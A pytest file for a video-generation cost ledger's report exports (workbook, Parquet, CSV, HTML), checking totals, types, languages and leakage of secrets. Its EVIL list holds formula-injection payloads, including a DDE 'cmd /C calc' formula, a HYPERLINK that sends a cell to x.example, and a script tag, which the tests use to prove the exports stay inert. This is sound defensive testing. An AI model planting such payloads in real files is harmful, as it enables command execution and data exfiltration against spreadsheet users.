"""The report for other programs: workbook, Parquet, CSV. Each file is read back by a library that did not write it."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
import sys
import zipfile
from collections.abc import Iterator
from dataclasses import replace
from decimal import Decimal
from pathlib import Path
from typing import Any

import openpyxl
import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from hypothesis import given
from hypothesis import strategies as st

from seedance_nb import prices
from seedance_nb.errors import ConfigurationError
from seedance_nb.ledger import Ledger
from seedance_nb.money import Fx
from seedance_nb.reports import LedgerView, _workbook, exports
from seedance_nb.task import Artifact

from .cost_samples import BILL, FAST, NEW, NEW_PRICE, OLD, VIDEO, a_month, at, charged
from .ledger_samples import a_ledger
from .workbooks import cut, sheets

D = Decimal
RATE = Fx(D("7.1"), "USD", "CNY", dt.date(2026, 11, 20), "my bank")
STANDARD = D("5.0094") + D("5.445") + D("5.4432") + D("5.0554") + D("5.0094")
"""Tasks 1, 2, 4, 7 and 11: 25.9624."""
CNY = STANDARD + D("4.0293")
"""With task 3, on the fast model: 29.9917."""
EVIL = (
    *(
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("http://x.example/?"&A1,"x")',
        "+1+1",
        "-2+3",
        "@SUM(1)",
        "\t=1",
        "\r=1",
        "\n=1",
    ),
    *(
        "＝1+1",
        " =1",
        "'=1",
        '"=1',
        "wide; =1+1",
        "https://x.example/",
        "mailto:a@b.example",
        "{=1}",
        "_x0041_",
        "\x01",
    ),
    "<script>alert(1)</script>",
)


@pytest.fixture
def ledger(tmp_path: Path) -> Iterator[Ledger]:
    """The month of `cost_samples`."""
    prices.override([NEW_PRICE])
    with a_ledger(tmp_path) as opened:
        a_month(opened)
        yield opened
    prices.override()


def written(ledger: Ledger, name: str, **options: Any) -> Path:
    """A report of the month under a name, in the ledger's folder."""
    given: dict[str, Any] = {"where": {"since": "2026-11"}, "currency": "CNY", "fx": RATE, "clips": "none"}
    given |= {
        "by": None,
        "over": None,
        "bill": None,
        "title": None,
        "language": "en",
        "now": at(30),
        "charts": False,
        **options,
    }
    return exports.write(LedgerView(ledger), ledger, ledger.home / name, **given)


def cell_at(day: int, *time: int) -> dt.datetime:
    """A time of November 2026 as a cell has it, which knows no zone."""
    return dt.datetime(2026, 11, day, *time, tzinfo=dt.UTC).replace(tzinfo=None)


def test_every_number_of_the_workbook_is_that_of_the_month(ledger: Ledger) -> None:
    """Sheet by sheet, redone by hand from the table in `cost_samples.a_month`."""
    bill = LedgerView(ledger).reconcile(BILL, provider="ark", since="2026-11", until="2026-11")
    found = sheets(written(ledger, "report.xlsx", bill=bill))
    costs = ("Currency", "Tasks", "Tokens", "Cost", "Seen in CNY")
    dollars = [1, 108_900, D("1.2096"), D("8.58816")]  # 1.2096 × 7.1
    euros = [1, 108_900, 3, None]

    summary = found["Summary"]
    said = [row[0] for row in summary]
    assert said[0] == "Where the money went"
    assert [row[1] for row in summary if row[0] == "About"] == ["since 2026-11"]
    assert said[5:10] == [
        "10 tasks, of which 8 made a clip and 1 did not.",
        "They cost ¥29.99 + $1.21.",
        "Seen in CNY: ¥38.58.",
        "€3.00 more has no known rate and is in no sum.",
        "1 had no answer to their create; they may have been billed.",
    ]
    top = said.index("Line")
    assert [row[:7] for row in summary[top:]] == [
        ["Line", "Currency", "Tasks", "Tokens", "Cost", "Seen in CNY", "Rate"],
        ["Billed", "CNY", 6, 739_900, CNY, CNY, ""],  # 4 × 108,900 + 109,900 + 194,400
        ["Billed", "USD", *dollars, "1 USD = 7.1 CNY on 2026-11-20 (my bank)"],
        ["Together", "CNY", 7, 848_800, None, CNY + D("8.58816"), ""],
        ["Not converted", "EUR", *euros, ""],
    ]
    assert cut(found["By provider and model"], "Provider", "Model", *costs) == [
        ["ark", "seedance-2.0", "CNY", 5, 631_000, STANDARD, STANDARD],  # 3 × 108,900 + 109,900 + 194,400
        ["ark", "seedance-2.0-fast", "CNY", 1, 108_900, D("4.0293"), D("4.0293")],
        ["atlas", "seedance-2.0", "USD", *dollars],
        ["elsewhere", "seedance-2.0", "EUR", *euros],
    ]
    assert cut(found["By resolution"], "Resolution", *costs) == [
        ["720p", "CNY", 6, 739_900, CNY, CNY],
        ["720p", "EUR", *euros],
        ["720p", "USD", *dollars],
    ]
    text = CNY - D("5.4432")
    assert cut(found["By mode"], "Mode", *costs) == [
        ["reference", "CNY", 1, 194_400, D("5.4432"), D("5.4432")],
        ["text", "CNY", 5, 545_500, text, text],
        ["text", "EUR", *euros],
        ["text", "USD", *dollars],
    ]
    plain = D("5.4432") + D("5.0554") + D("5.0094")  # tasks 4, 7 and 11
    assert cut(found["By prompt family"], "Prompt family", *costs) == [
        ["a cat, take #", "CNY", 2, 217_800, D("10.4544"), D("10.4544")],
        ["a fox", "CNY", 1, 108_900, D("4.0293"), D("4.0293")],
        ["一只猫 yawns <b>", "CNY", 3, 413_200, plain, plain],
        ["一只猫 yawns <b>", "EUR", *euros],
        ["一只猫 yawns <b>", "USD", *dollars],
    ]
    assert cut(found["By project"], "Project", *costs) == [
        [None, "CNY", 4, 522_100, CNY - D("10.4544"), CNY - D("10.4544")],
        [None, "EUR", *euros],
        [None, "USD", *dollars],
        ["film", "CNY", 2, 217_800, D("10.4544"), D("10.4544")],
    ]
    assert cut(found["By price row"], "Price row", *costs[:4]) == [
        [None, "EUR", *euros[:3]],
        [None, "USD", *dollars[:3]],
        [FAST, "CNY", 1, 108_900, D("4.0293")],
        [OLD, "CNY", 3, 327_700, D("15.0742")],  # 2 × 5.0094 + 5.0554
        [VIDEO, "CNY", 1, 194_400, D("5.4432")],
        [NEW, "CNY", 1, 108_900, D("5.445")],
    ]
    assert cut(found["By day"], "From (UTC)", *costs[:4]) == [
        [cell_at(2), "CNY", 1, 108_900, D("5.0094")],
        [cell_at(3), "CNY", 1, 194_400, D("5.4432")],
        [cell_at(4), "EUR", *euros[:3]],
        [cell_at(4), "USD", *dollars[:3]],
        [cell_at(5), "CNY", 1, 109_900, D("5.0554")],
        [cell_at(9), "CNY", 1, 108_900, D("5.0094")],
        [cell_at(16), "CNY", 2, 217_800, D("9.4743")],
    ]
    heads = ("Tasks", "Cost", "Seconds", "A second", "Kept", "A kept clip")
    votes = ("Judged", "Preferred", "Cost of what was judged", "A preferred clip")
    assert cut(found["What a clip costs"], "Model", "Currency", *heads, *votes) == [
        ["seedance-2.0", "CNY", 5, STANDARD, 25, D("1.038496"), 4, D("6.4906"), 8, 3, D("41.8176"), D("13.9392")],
        ["seedance-2.0-fast", "CNY", 1, D("4.0293"), 5, D("0.80586"), 1, D("4.0293"), 0, 0, 0, None],
        ["seedance-2.0", "USD", 1, D("1.2096"), 5, D("0.24192"), 1, D("1.2096"), 0, 0, 0, None],
        ["seedance-2.0", "EUR", 1, 3, 5, D("0.6"), 1, 3, 0, 0, 0, None],
    ]
    heads = ("Tasks", "Made", "Kept", "Lost", "Failed", "Expired", "Refused", "Cancelled", "No answer", "Open")
    times = ("Success, %", "Seconds to the clip", "Seconds waited in vain")
    assert cut(found["How tasks ended"], "Provider", "Model", *heads, *times) == [
        ["ark", "seedance-2.0", 7, 5, 4, 1, 1, 0, 0, 0, 1, 0, D("83.33"), 40, 80],  # 5 of 6; the lost and the failed
        ["ark", "seedance-2.0-fast", 1, 1, 1, 0, 0, 0, 0, 0, 0, 0, 100, 40, 0],
        ["atlas", "seedance-2.0", 1, 1, 1, 0, 0, 0, 0, 0, 0, 0, 100, 40, 0],
        ["elsewhere", "seedance-2.0", 1, 1, 1, 0, 0, 0, 0, 0, 0, 0, 100, 40, 0],
    ]
    counts = ("Tasks", "Without a quote", "Charged by the quote", "Quoted in another currency", "Compared")
    counts += ("As quoted", "Above the quote", "Below the quote")
    sums = ("Quoted, at least", "Quoted, at most", "Billed", "Above, in all", "Below, in all", "Drift, %")
    sums += ("Tokens quoted", "Tokens billed")
    assert cut(found["Quoted against billed"], "Price row", *counts, *sums) == [
        [FAST, 1, 0, 0, 0, 1, 1, 0, 0, *[D("4.0293")] * 3, 0, 0, 0, 108_900, 108_900],
        [
            OLD,
            3,
            0,
            0,
            0,
            3,
            2,
            1,
            0,
            D("15.0282"),
            D("15.0282"),
            D("15.0742"),
            D("0.046"),
            0,
            D("0.31"),
            326_700,
            327_700,
        ],
        [VIDEO, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, None, 0, 0],
        [NEW, 1, 0, 0, 0, 1, 1, 0, 0, *[D("5.445")] * 3, 0, 0, 0, 108_900, 108_900],
        # five seconds at $0.09 were quoted, $0.7596 less than was billed
        [None, 1, 0, 0, 0, 1, 0, 1, 0, D("0.45"), D("0.45"), D("1.2096"), D("0.7596"), 0, D("168.8"), 0, 0],
        [None, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, None, 0, 0],
    ]
    per = ("Price", "Currency", "For so many", "Unit", "From")
    assert cut(found["Price rows that were used"], "Price row", *per) == [
        [FAST, 37, "CNY", 1_000_000, "tokens", "2026-04-14"],
        [OLD, 46, "CNY", 1_000_000, "tokens", "2026-04-14"],
        [VIDEO, *[None] * 5],  # nothing was quoted, so that the id is all there is
        ["atlas/seedance-2.0/listed/no-video/2026-08", D("0.09"), "USD", 1, "seconds", "2026-08-01"],
        [NEW, 50, "CNY", 1_000_000, "tokens", "2026-11-15"],
    ]
    assert cut(found["Bill against ledger"], "Finding", "Line", "Task", "Billed", "In the ledger", "Difference") == [
        ["Not on the bill", None, "cgt-11", None, D("5.0094"), D("-5.0094")],
        ["Not in the ledger", 8, "cgt-99", D("1.5"), None, D("1.5")],
        ["Billed twice", 4, "cgt-2", D("5.45"), None, D("5.45")],
        ["Another amount or number of tokens", 5, "cgt-3", D("4.53"), D("4.0293"), D("0.5007")],
    ]
    billed = D("5.01") + 2 * D("5.45") + D("4.53") + D("5.44") + D("5.06") + D("1.5")
    rounding = D("0.0006") + D("0.005") - D("0.0032") + D("0.0046")
    assert cut(found["Sums of the bill"], "Currency", "Billed", "In the ledger", "Difference", "Roundings") == [
        ["CNY", billed, CNY, billed - CNY, rounding]
    ]


def test_tasks_and_charges_are_all_there(ledger: Ledger) -> None:
    """Each task of the month in its sheet, with times in UTC; what failed or had no answer has a quote and no cost."""
    found = sheets(written(ledger, "report.xlsx"))
    tasks = cut(found["Tasks"], "Our id", "Status", "Tokens", "Cost", "Currency", "Quoted, at most", "Ended (UTC)")
    ends = {number: cell_at(day, 4, 0, 40) for number, day in zip((3, 9), (16, 7), strict=True)}
    assert len(tasks) == 10
    assert ["t-0003", "kept", 108_900, D("4.0293"), "CNY", D("4.0293"), ends[3]] in tasks
    assert ["t-0009", "failed", None, None, None, D("5.0094"), ends[9]] in tasks
    assert ["t-0010", "unknown", None, None, None, D("5.0094"), None] in tasks
    assert "t-0008" not in [row[0] for row in tasks]  # the sandbox's
    charges = cut(found["Charges"], "Our id", "Charged (UTC)", "Tokens", "Cost", "Currency", "On whose word", "Mode")
    assert charges == [
        [f"t-{number:04}", cell_at(day, 4), tokens, D(cost), currency, basis, mode]
        for number, day, tokens, cost, currency, basis, mode in (
            (3, 16, 108_900, "4.0293", "CNY", "usage", "text"),
            (2, 16, 108_900, "5.445", "CNY", "usage", "text"),
            (11, 9, 108_900, "5.0094", "CNY", "usage", "text"),
            (7, 5, 109_900, "5.0554", "CNY", "usage", "text"),
            (6, 4, 108_900, "3", "EUR", "reported", "text"),
            (5, 4, 108_900, "1.2096", "USD", "reported", "text"),
            (4, 3, 194_400, "5.4432", "CNY", "usage", "reference"),
            (1, 2, 108_900, "5.0094", "CNY", "usage", "text"),
        )
    ]
    book = openpyxl.load_workbook(ledger.home / "report.xlsx")
    for sheet in book.worksheets[1:-1]:
        assert sheet.freeze_panes == "A2"
        assert sheet.auto_filter.ref == sheet.dimensions
        widths = [dimension.width for dimension in sheet.column_dimensions.values()]
        assert all(8 <= width <= 60 for width in widths)
    cell = book["Charges"].cell(2, found["Charges"][0].index("Cost") + 1)
    assert cell.number_format == "[$¥]#,##0.00######"


@given(st.decimals(-(10**12), 10**12, places=8))
def test_a_number_in_a_cell_is_exact(amount: Decimal) -> None:
    """What is written as a number comes back as the same number; a double alone decides that."""
    if _workbook.fits(amount):
        assert D(repr(float(f"{float(amount):.15G}"))) == amount


def test_an_amount_that_a_double_would_bend_is_text(ledger: Ledger) -> None:
    """Sixteen digits stay sixteen digits."""
    charged(ledger, 50, 20, "12345678.12345678")
    rows = cut(sheets(written(ledger, "report.xlsx", where={"local_id": "t-0050"}))["Charges"], "Cost")
    assert rows == [["12345678.12345678"]]


def test_the_one_table_is_the_charges_and_their_sum_is_the_costs(ledger: Ledger) -> None:
    """Parquet to the last digit with types of its own; CSV the same as text. The sums are those of `ledger.costs`."""
    view = LedgerView(ledger)
    expected = {row["currency"]: row["cost"] for row in view.costs((), sandbox=False).to_dict("records")}
    assert expected == {"CNY": CNY, "USD": D("1.2096"), "EUR": D("3")}

    path = written(ledger, "report.parquet")
    table = pq.read_table(path)
    types = {name: table.schema.field(name).type for name in ("cost", "charged_at", "currency", "tokens", "is_sandbox")}
    assert types == {
        "cost": pa.decimal128(38, 8),
        "charged_at": pa.timestamp("us", tz="UTC"),
        "currency": pa.dictionary(pa.int32(), pa.string()),
        "tokens": pa.int64(),
        "is_sandbox": pa.bool_(),
    }
    assert table.schema.field("cost").metadata[b"meaning"].startswith(b"exact `Decimal`")
    about = json.loads(table.schema.metadata[b"seedance_nb"])
    assert about["table"] == "charges"
    assert json.loads(about["filters"]) == {"since": "2026-11"}
    assert "Costs are sums of charges" in about["said"]
    frame = pd.read_parquet(path)
    assert frame.groupby("currency", observed=True)["cost"].sum().to_dict() == expected
    assert list(frame["charged_at"])[:2] == [pd.Timestamp(at(16))] * 2
    assert str(frame["currency"].dtype) == "category"

    text = pd.read_csv(written(ledger, "report.csv"), dtype=str, keep_default_na=False)
    sums: dict[str, Decimal] = {}
    for _, row in text.iterrows():
        sums[row["currency"]] = sums.get(row["currency"], D(0)) + D(row["cost"])
    assert sums == expected
    assert list(text.columns) == list(frame.columns)
    assert text["charged_at"].iloc[0] == "2026-11-16T04:00:00Z"
    assert list(text["prompt"])[:2] == ["A fox", "a cat,  take 22"]


@pytest.mark.parametrize("suffix", ["csv", "parquet"])
def test_each_table_may_have_a_file_of_its_own(ledger: Ledger, suffix: str) -> None:
    """The name of each stands where the star was; their sums are the same."""
    folder = written(
        ledger, f"november/2026-11-*.{suffix}", by=["project", "provider,model", "tag:client"], over="week"
    )
    names = {path.name.removeprefix("2026-11-").removesuffix(f".{suffix}") for path in folder.iterdir()}
    plain = {"total", "costs-week", "unit-costs", "outcomes", "drift", "tasks", "charges", "prices"}
    costs = {f"costs-by-{name}-week" for name in ("project", "provider-model", "tag-client")}
    assert names == plain | costs | ({"method"} if suffix == "csv" else set())
    for name in {"costs-week", "charges"} | costs:
        path = folder / f"2026-11-{name}.{suffix}"
        frame = pd.read_parquet(path) if suffix == "parquet" else pd.read_csv(path, dtype={"cost": str})
        yuan = [D(str(cost)) for cost in frame[frame["currency"] == "CNY"]["cost"]]
        assert sum(yuan) == CNY
    if suffix == "parquet":
        tasks = pd.read_parquet(folder / "2026-11-tasks.parquet")
        assert list(tasks["local_id"]) == list(LedgerView(ledger).frame(sandbox=False)["local_id"])


def test_nothing_in_a_file_runs(ledger: Ledger) -> None:
    """Prompts, projects, notes and tags that would be formulas, links or markup are texts, letter for letter."""
    view = LedgerView(ledger)
    for number, text in enumerate(EVIL, 100):
        charged(ledger, number, 20, "1", prompt=text, project=text)
        view.note(f"t-{number:04}", text)
    path = written(ledger, "report.xlsx")
    with zipfile.ZipFile(path) as archive:
        raw = {name: archive.read(name).decode() for name in archive.namelist() if name.endswith((".xml", ".rels"))}
    assert not any("<f>" in text or "<f " in text or "<hyperlink" in text for text in raw.values())
    assert not any('TargetMode="External"' in text for text in raw.values())
    assert all(cell.data_type != "f" for sheet in openpyxl.load_workbook(path) for row in sheet for cell in row)
    prompts = [row[0] for row in cut(sheets(path)["Charges"], "Prompt")]
    for text in EVIL:
        # what XML cannot have is escaped in a way that spreadsheets know and openpyxl leaves
        escaped = text.replace("_x", "_x005F_x").replace("\x01", "_x0001_")
        assert {text, text.replace("\r", "\n"), escaped} & set(prompts), text

    text = written(ledger, "report.csv").read_text("utf-8-sig")
    for delimiter in ",;\t":  # as a spreadsheet opens it: which sign parts cells is the reader's, not the file's
        cells = [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for cell in row]
        assert len(cells) > 30
        for cell in cells:
            assert not re.match(r"[\s\ufeff\"]*[=+\-@＝＋－＠]", cell), (delimiter, cell)

    page = written(ledger, "report.html", by=["project"]).read_text("utf-8")
    assert "<script" not in page
    assert "&lt;script&gt;" in page


def test_no_secret_is_in_a_file(tmp_path: Path) -> None:
    """A key that a person pasted into a prompt or a note is in none of the files, nor is where this ledger lies."""
    key = "sk-0123456789abcdef0123456789abcdef"
    signed = "https://x.example.com/a.mp4?X-Tos-Signature=deadbeefdeadbeef"
    with a_ledger(tmp_path, keys=[key]) as ledger:
        charged(ledger, 1, 2, "5", prompt=f"a cat {key} {signed}", project="film")
        LedgerView(ledger).note("t-0001", f"{key} {signed}")
        charged(ledger, 2, 2, "5")
        clip = tmp_path / "clips" / "a.mp4"
        clip.parent.mkdir()
        clip.write_bytes(b"clip")
        ledger.add_artifact("t-0002", replace(Artifact("clip", clip), sha256="0" * 64, kept_at=at(2)))
        for name in ("report.xlsx", "report.csv", "report.parquet", "report.html", "all/*.csv", "all/*.parquet"):
            written(ledger, name)
    files = [path for path in tmp_path.rglob("*") if path.suffix in exports.SUFFIXES]
    assert len(files) > 20
    for path in files:
        if path.suffix == ".xlsx":
            with zipfile.ZipFile(path) as archive:
                data = b"".join(archive.read(name) for name in archive.namelist())
        elif path.suffix == ".parquet":
            data = (pq.read_table(path).to_pandas().to_csv() + str(pq.read_schema(path).metadata)).encode()
        else:
            data = path.read_bytes()
        assert key.encode() not in data
        assert b"deadbeef" not in data
        assert str(tmp_path).encode() not in data
        assert b"clips/a.mp4" in data or "tasks" not in path.name


@pytest.mark.parametrize(
    ("language", "names", "head", "shape"),
    [
        ("zh", ["摘要", "按服务商和模型", "记账明细", "方法"], "折合 CNY", "[$¥]#,##0.00######"),
        (
            "fr",
            ["Résumé", "Par fournisseur et modèle", "Montants comptés", "Méthode"],
            "Vu en CNY",
            "#,##0.00######\u00a0[$¥]",
        ),
    ],
)
def test_a_workbook_speaks_the_readers_language(
    ledger: Ledger, language: str, names: list[str], head: str, shape: str
) -> None:
    """Sheets, headings, sentences and findings; numbers are the same numbers."""
    bill = LedgerView(ledger).reconcile(BILL, provider="ark", since="2026-11", until="2026-11")
    path = written(ledger, "report.xlsx", language=language, bill=bill)
    found = sheets(path)
    assert set(names) <= set(found)
    rows = cut(found[names[1]], head)
    assert rows[0] == [STANDARD]
    cell = openpyxl.load_workbook(path)[names[1]].cell(2, found[names[1]][0].index(head) + 1)
    assert cell.number_format == shape
    english = {"Currency", "Tasks", "Cost", "Billed", "Billed twice", "Together", "Not converted"}
    assert not english & {cell for rows in found.values() for row in rows for cell in row if isinstance(cell, str)}


def test_the_sandbox_is_told_apart(ledger: Ledger) -> None:
    """Its tasks are in a workbook only where there is nothing else, and then it says that nothing was billed."""
    alone = sheets(written(ledger, "alone.xlsx", where={"local_id": "t-0008"}))
    assert any("nothing was billed" in str(row[1]) for row in alone["Summary"])
    assert cut(alone["Charges"], "Cost", "Sandbox") == [[7, True]]
    both = sheets(written(ledger, "both.xlsx", where={}))
    assert not any("nothing was billed" in str(cell) for row in both["Summary"] for cell in row)
    assert 7 not in [row[0] for row in cut(both["Charges"], "Cost")]


def test_tables_by_what_was_asked_for(ledger: Ledger) -> None:
    """`by` and `over` choose the sums, in a workbook and on the page; a tag's name becomes one a sheet may have."""
    LedgerView(ledger).tag("t-0001", client="acme")
    options: dict[str, Any] = {"by": ["project", "tag:client,mode"], "over": "month"}
    found = sheets(written(ledger, "report.xlsx", **options))
    assert cut(found["By project, month by month"], "Project", "From (UTC)", "Currency", "Cost")[-1] == [
        "film",
        cell_at(1),
        "CNY",
        D("10.4544"),
    ]
    assert ["acme", "text", D("5.0094")] in cut(found["By tag-client, Mode, month by m"], "tag:client", "Mode", "Cost")
    assert "By resolution" not in found
    page = written(ledger, "report.html", **options).read_text("utf-8")
    assert "<h2>By project, month by month</h2>" in page
    assert '<th scope="row">acme</th><th scope="row">text</th>' in page
    assert "<h2>By month</h2>" in page
    with pytest.raises(ValueError, match="cannot be summed by 'colour'"):
        written(ledger, "other.xlsx", by="colour")
    assert not list(ledger.home.glob("*other*"))


def test_a_report_that_cannot_be_written_leaves_what_was_there(ledger: Ledger, monkeypatch: pytest.MonkeyPatch) -> None:
    """A missing package is named with its command, too many rows with the way out; no half a file is left."""
    path = written(ledger, "report.xlsx")
    before = path.read_bytes()
    monkeypatch.setattr(_workbook, "MOST_ROWS", 3)
    with pytest.raises(ConfigurationError, match=r"more than a sheet .* Nothing was written.*\.parquet"):
        written(ledger, "report.xlsx")
    for name, extra in (("report.xlsx", "excel"), ("report.parquet", "parquet")):
        monkeypatch.setitem(sys.modules, {"excel": "xlsxwriter", "parquet": "pyarrow.parquet"}[extra], None)
        with pytest.raises(ConfigurationError, match=rf'pip install "seedance-nb\[{extra}\]"'):
            written(ledger, name)
    for name in ("report.pdf", "report", "*.xlsx", "*/*.html", "a*b*.csv"):
        with pytest.raises(ConfigurationError, match="Nothing was written"):
            written(ledger, name)
    assert path.read_bytes() == before
    assert {one.name for one in ledger.home.iterdir() if "report" in one.name or "*" in one.name} == {"report.xlsx"}


def test_an_empty_ledger_has_a_workbook_too(tmp_path: Path) -> None:
    """Headings without rows, and sums of nothing; Parquet keeps its types."""
    with a_ledger(tmp_path) as ledger:
        found = sheets(written(ledger, "report.xlsx", where={}))
        assert any("0 tasks" in str(row[0]) for row in found["Summary"])
        assert len(found["Charges"]) == 1
        assert pq.read_table(written(ledger, "report.parquet", where={})).schema.field("cost").type == pa.decimal128(
            38, 8
        )
        assert written(ledger, "report.csv", where={}).read_text("utf-8-sig").startswith("local_id,task_id")
